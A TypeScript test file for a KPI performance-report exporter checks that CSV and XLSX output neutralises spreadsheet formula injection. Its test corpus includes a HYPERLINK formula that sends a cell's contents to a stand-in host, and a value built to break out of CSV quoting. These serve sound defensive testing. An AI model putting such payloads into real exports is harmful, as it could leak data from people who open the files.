import { describe, it } from 'node:test'
import assert from 'node:assert/strict'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { performanceReportCsv, tableToCsv } from './csv.ts'
import { performanceReportXlsx } from './xlsx.ts'
import { performanceReportJson } from './json.ts'
import { neutraliseFormula } from '../shared/cell-safety.ts'
import { fixtureReport, hostileRow } from './fixture-report.ts'

/** Written out here, independently of cell-safety.ts: what a spreadsheet takes for the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/

const CORPUS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF201+1',
  '=HYPERLINK("http://127.0.0.1:9999/leak?d="&A1,"x")',
  'x","=1+1',
]

type Parsed = (string | number | null)[][]

/** Parses CSV back, keeping quoted fields as text and unquoted ones as numbers (empty → null). */
function parseCsv(csv: string): Parsed {
  return parse(csv, {
    bom: true,
    relax_column_count: false,
    cast: (value, context) => {
      if (context.quoting) return value
      if (value === '') return null
      const n = Number(value)
      assert.ok(Number.isFinite(n), `unquoted field "${value}" is not a number`)
      return n
    },
  }) as Parsed
}

async function readXlsx(buffer: Buffer): Promise<Map<string, ExcelJS.Cell[][]>> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer)
  const sheets = new Map<string, ExcelJS.Cell[][]>()
  workbook.eachSheet((sheet) => {
    const rows: ExcelJS.Cell[][] = []
    sheet.eachRow({ includeEmpty: false }, (row) => {
      const cells: ExcelJS.Cell[] = []
      row.eachCell({ includeEmpty: true }, (cell) => cells.push(cell))
      rows.push(cells)
    })
    sheets.set(sheet.name, rows)
  })
  return sheets
}

describe('neutraliseFormula', () => {
  it('prefixes every formula trigger with an apostrophe and leaves other text alone', () => {
    for (const text of CORPUS.filter((t) => FORMULA_START.test(t))) assert.equal(neutraliseFormula(text), `'${text}`)
    assert.equal(neutraliseFormula('x","=1+1'), 'x","=1+1')
    assert.equal(neutraliseFormula('Knife crime'), 'Knife crime')
    assert.equal(neutraliseFormula(''), '')
    assert.equal(neutraliseFormula("'=1+1"), "'=1+1", 'an apostrophe already there is not a trigger')
  })
})

describe('CSV export', () => {
  it('is UTF-8 with a byte order mark, CRLF line ends and one header row', () => {
    const csv = performanceReportCsv(fixtureReport())
    assert.ok(csv.startsWith('\uFEFF"Theme","KPI code","KPI",'))
    assert.ok(csv.endsWith('\r\n'))
    assert.doesNotMatch(csv.replace(/\r\n/g, ''), /\n/, 'no bare line feeds outside quoted fields')
  })

  it('writes one row per KPI per period, last year first', () => {
    const rows = parseCsv(performanceReportCsv(fixtureReport()))
    // 5 KPIs × 4 quarters × 2 years, plus the header.
    assert.equal(rows.length, 1 + 5 * 8)
    const knife = rows.filter((r) => r[1] === 'knife-crime')
    assert.deepEqual(
      knife.map((r) => r[8]),
      [40, 49, 51, 51, 49, 49, 56, 67],
    )
    assert.deepEqual(knife[0], [
      'Gangs and Youth Crime',
      'knife-crime',
      'Reduce the number of violent crimes committed where a knife or sharply bladed instrument was present (all ages)',
      '2016/17',
      'FY2016-17-Q1',
      '2016/17 Q1',
      'reported',
      '40',
      40,
      null,
      null,
      null,
      null,
      'SWP Analyst',
    ])
    const missing = rows.find((r) => r[1] === 'proven-reoffending' && r[4] === 'FY2017-18-Q4')
    assert.deepEqual(missing?.slice(6, 13), [
      'not-yet-available',
      'not available',
      null,
      null,
      null,
      null,
      'MOJ website does not have an update for Q4',
    ])
  })

  it('writes the per-KPI summary with numbers as numbers', () => {
    const rows = parseCsv(performanceReportCsv(fixtureReport(), 'summary'))
    const header = rows[0] as string[]
    const knife = rows.find((r) => r[2] === 'knife-crime') as Parsed[number]
    const column = (name: string) => knife[header.indexOf(name)]
    assert.equal(rows.length, 6)
    assert.equal(column('Outturn 2017/18 value'), 221)
    assert.equal(column('Outturn 2016/17 value'), 191)
    assert.equal(column('Baseline value'), 191)
    assert.equal(column('Change on baseline'), 30)
    assert.equal(column('Change on baseline %'), 15.7)
    assert.equal(column('Outcome'), 'Not achieved')
    assert.equal(column('p-value'), 0.153)
    assert.equal(column('Significance'), 'within normal variation')
    assert.equal(column('Next baseline'), 221)
    const custody = rows.find((r) => r[2] === 'youth-custody') as Parsed[number]
    assert.equal(custody[header.indexOf('Change on baseline')], -0.45, 'a negative change is a number')
  })

  it('neutralises every formula in text cells and keeps negative numbers as numbers', () => {
    for (const text of CORPUS) {
      const report = fixtureReport([hostileRow({ name: text, commentary: text, theme: text, owner: text })])
      for (const table of ['values', 'summary'] as const) {
        const rows = parseCsv(performanceReportCsv(report, table))
        const width = (rows[0] as unknown[]).length
        for (const row of rows) {
          assert.equal(row.length, width, `${JSON.stringify(text)}: a field broke out of its quotes`)
          for (const cell of row) {
            if (typeof cell === 'string') assert.doesNotMatch(cell, FORMULA_START, `${JSON.stringify(text)} → ${cell}`)
          }
        }
        const hostile = rows.filter((r) => r.includes('hostile'))
        assert.ok(hostile.length > 0)
        const expected = FORMULA_START.test(text) ? `'${text}` : text
        for (const row of hostile) assert.equal(row[0], expected, 'the theme cell holds the text, prefixed')
        if (table === 'summary') {
          const header = rows[0] as string[]
          assert.equal(hostile[0]?.[header.indexOf('Change on baseline')], -30)
          assert.equal(hostile[0]?.[header.indexOf('Change on baseline %')], -15.7)
        }
      }
    }
  })

  it('quotes text, so a number-looking code stays text and unquoted numbers are numbers', () => {
    const csv = tableToCsv({
      name: 't',
      columns: [
        { header: 'A', description: '', format: 'text', width: 1 },
        { header: 'B', description: '', format: 'number', width: 1 },
        { header: 'C', description: '', format: 'number', width: 1 },
      ],
      rows: [
        ['123', -30, null],
        ['say "hi", then\nleave', 1.5, Number.NaN],
      ],
    })
    assert.equal(csv, '\uFEFF"A","B","C"\r\n"123",-30,\r\n"say ""hi"", then\nleave",1.5,\r\n')
  })
})

describe('XLSX export', () => {
  it('has a summary, a values and a notes sheet with numbers in number cells', async () => {
    const sheets = await readXlsx(await performanceReportXlsx(fixtureReport()))
    assert.deepEqual([...sheets.keys()], ['Summary', 'Values', 'Notes'])
    const summary = sheets.get('Summary') as ExcelJS.Cell[][]
    const header = (summary[0] as ExcelJS.Cell[]).map((c) => c.value)
    const knife = summary.find((r) => r[2]?.value === 'knife-crime') as ExcelJS.Cell[]
    const cell = (name: string) => knife[header.indexOf(name)] as ExcelJS.Cell
    assert.equal(cell('Outturn 2017/18 value').value, 221)
    assert.equal(cell('Outturn 2017/18 value').type, ExcelJS.ValueType.Number)
    assert.equal(cell('Change on baseline %').value, 15.7)
    assert.equal(cell('Outcome').value, 'Not achieved')
    const values = sheets.get('Values') as ExcelJS.Cell[][]
    assert.equal(values.length, 1 + 5 * 8)
    const notes = (sheets.get('Notes') as ExcelJS.Cell[][]).flat().map((c) => String(c.value))
    assert.ok(notes.includes('Contains public sector information licensed under the Open Government Licence v3.0'))
  })

  it('neutralises every formula in text cells and keeps negative numbers as numbers', async () => {
    for (const text of CORPUS) {
      const report = fixtureReport([hostileRow({ name: text, commentary: text, theme: text, owner: text })])
      const sheets = await readXlsx(await performanceReportXlsx(report))
      for (const [name, rows] of sheets) {
        for (const row of rows) {
          for (const cell of row) {
            assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `${name}: a formula cell`)
            if (typeof cell.value === 'string') {
              assert.doesNotMatch(cell.value, FORMULA_START, `${name} ${cell.address}: ${JSON.stringify(cell.value)}`)
            }
          }
        }
      }
      const summary = sheets.get('Summary') as ExcelJS.Cell[][]
      const header = (summary[0] as ExcelJS.Cell[]).map((c) => c.value)
      const hostile = summary.find((r) => r[2]?.value === 'hostile') as ExcelJS.Cell[]
      // XML reading turns a carriage return into a line feed (XML 1.0 end-of-line handling), hence the replace.
      const expected = (FORMULA_START.test(text) ? `'${text}` : text).replace(/\r\n?/g, '\n')
      assert.equal(hostile[3]?.value, expected)
      const change = hostile[header.indexOf('Change on baseline')] as ExcelJS.Cell
      assert.equal(change.type, ExcelJS.ValueType.Number)
      assert.equal(change.value, -30)
    }
  })
})

describe('JSON export', () => {
  it('is the model, with numbers as numbers and missing as null', () => {
    const json = JSON.parse(performanceReportJson(fixtureReport()))
    assert.equal(json.format, 'saferhub.performance-report')
    assert.equal(json.yearLabel, '2017/18')
    const knife = json.themes[1].rows[0]
    assert.equal(knife.indicator.id, 'knife-crime')
    assert.equal(knife.outturn.value, 221)
    assert.equal(knife.changeOnBaseline.percent, 15.7)
    const reoffending = json.themes[0].rows[0]
    assert.equal(reoffending.periods[3].thisYear.number, null)
  })
})
